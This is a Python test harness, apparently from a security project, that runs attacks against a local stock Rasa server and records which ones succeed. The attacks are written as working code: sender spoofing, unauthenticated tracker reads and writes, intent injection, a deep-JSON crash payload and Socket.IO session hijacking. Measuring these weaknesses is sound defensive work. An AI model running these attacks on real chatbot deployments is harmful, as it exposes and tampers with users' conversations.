"""The same attacks on a stock Rasa server: `python -m tests.attacks.control http://127.0.0.1:5005 --write`.

The server has the REST and the Socket.IO channel and the HTTP API, as `rasa run --enable-api` starts it, on loopback,
with nobody's conversations but those made here. `--only failing_action` needs its action server stopped.
What was found is kept in `control.json`; `python -m tests.attacks.table` writes it into docs/security.md.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import sys
from collections.abc import Callable
from datetime import UTC, datetime
from uuid import uuid4

import httpx
import socketio

from tests.attacks.table import CONTROL

SUCCEEDS, HOLDS = "succeeds", "holds"
Found = tuple[bool, str]
"""Whether the attack succeeded, and what was seen."""


class Stock:
    """Anybody who reaches the server; nothing is shown but what is sent."""

    def __init__(self, address: str) -> None:
        self.http = httpx.Client(base_url=address, timeout=60)
        self.address, self.victim = address, f"victim-{uuid4()}"

    def say(self, text: str, sender: str | None = None, **more: object) -> httpx.Response:
        body = {"sender": sender or self.victim, "message": text, **more}
        return self.http.post("/webhooks/rest/webhook", json=body)

    def tracker(self, sender: str | None = None) -> dict:
        return self.http.get(f"/conversations/{sender or self.victim}/tracker").json()

    def said(self, event: str = "user") -> list[dict]:
        return [each for each in self.tracker()["events"] if each["event"] == event]


def write_sender(stock: Stock) -> Found:
    stock.say("hello")
    answer = stock.say("written by another")
    kept = any("another" in each["text"] for each in stock.said())
    return kept, f"HTTP {answer.status_code}; the words stand in the victim's conversation: {kept}"


def read_tracker(stock: Stock) -> Found:
    stock.say("my words are mine")
    answer = stock.http.get(f"/conversations/{stock.victim}/tracker")
    return "my words are mine" in answer.text, f"HTTP {answer.status_code} to a caller without credentials"


def metadata(stock: Stock) -> Found:
    stock.say("hello", metadata={"account": "acme"})
    kept = stock.said()[-1]["metadata"].get("account") == "acme"
    return kept, f"metadata of the caller's choice is handed to the actions: {kept}"


def intent_text(stock: Stock) -> Found:
    stock.say('/affirm{"amount": "9999"}')
    told = stock.said()[-1]["parse_data"]
    taken = told["intent"]["name"] == "affirm" and bool(told["entities"])
    return taken, f"taken as the intent {told['intent']['name']} with {len(told['entities'])} entities"


def restart(stock: Stock) -> Found:
    stock.say("hello")
    stock.say("/restart")
    left = [each["text"] for each in stock.said()]
    return "hello" not in left, f"what was said before is still there: {'hello' in left}"


def doubled(stock: Stock) -> Found:
    answers = [stock.say("hello", message_id="the-same").status_code for _ in range(2)]
    times = len(stock.said())
    return times == 2, f"HTTP {answers}; one message sent twice was done {times} times"


def rasa_api(stock: Stock) -> Found:
    open_ = [path for path in ("/status", "/domain") if stock.http.get(path).is_success]
    slot = {"event": "slot", "name": "language", "value": "ja", "timestamp": None}
    wrote = stock.http.post(f"/conversations/{stock.victim}/tracker/events", json=slot).status_code
    return wrote == 200, f"open: {', '.join(open_)}; an event written into another's tracker: HTTP {wrote}"


def deep_json(stock: Stock) -> Found:
    answer = stock.http.post("/webhooks/rest/webhook", content=b"[" * 30_000)
    return answer.status_code >= 500, f"HTTP {answer.status_code}"


def socket_session(stock: Stock) -> Found:
    return asyncio.run(_listen(stock))


async def _listen(stock: Stock) -> Found:
    """A thief takes the victim's session id, writes under it and is answered."""
    heard: list[object] = []
    thief = socketio.AsyncClient()
    thief.on("bot_uttered", heard.append)
    await thief.connect(stock.address, transports=["polling"])
    await thief.emit("session_request", {"session_id": stock.victim})
    await asyncio.sleep(0.5)
    await thief.emit("user_uttered", {"message": "hello from the thief", "session_id": stock.victim})
    for _ in range(40):
        await asyncio.sleep(0.25)
        if heard:
            break
    await thief.disconnect()
    kept = any("thief" in each["text"] for each in stock.said())
    return kept, f"answered {len(heard)} times under the victim's session; kept in their conversation: {kept}"


def failing_action(stock: Stock) -> Found:
    answer = stock.say("/show_balance")
    return answer.status_code == 200, f"with no action server: HTTP {answer.status_code}, body {answer.text[:80]}"


CONTROLS: dict[str, Callable[[Stock], Found]] = {
    each.__name__: each
    for each in (
        write_sender, read_tracker, metadata, intent_text, restart, doubled, rasa_api, deep_json, socket_session,
        failing_action,
    )
}  # fmt: skip


def main() -> None:
    """Run them, print what was seen, and keep it where asked to."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("address")
    parser.add_argument("--only", choices=CONTROLS)
    parser.add_argument("--write", action="store_true", help="keep the results in control.json")
    given = parser.parse_args()
    kept = json.loads(CONTROL.read_text()) if CONTROL.exists() else {"results": {}}
    names = [given.only] if given.only else [name for name in CONTROLS if name != "failing_action"]
    for name in names:
        succeeded, seen = CONTROLS[name](Stock(given.address))
        kept["results"][name] = {"outcome": SUCCEEDS if succeeded else HOLDS, "seen": seen}
        sys.stdout.write(f"{name:16} {kept['results'][name]['outcome']:9} {seen}\n")
    kept["date"], kept["server"] = datetime.now(UTC).date().isoformat(), "rasa 3.6.21, REST and Socket.IO, --enable-api"
    if given.write:
        CONTROL.write_text(json.dumps(kept, indent=2) + "\n")


if __name__ == "__main__":
    main()
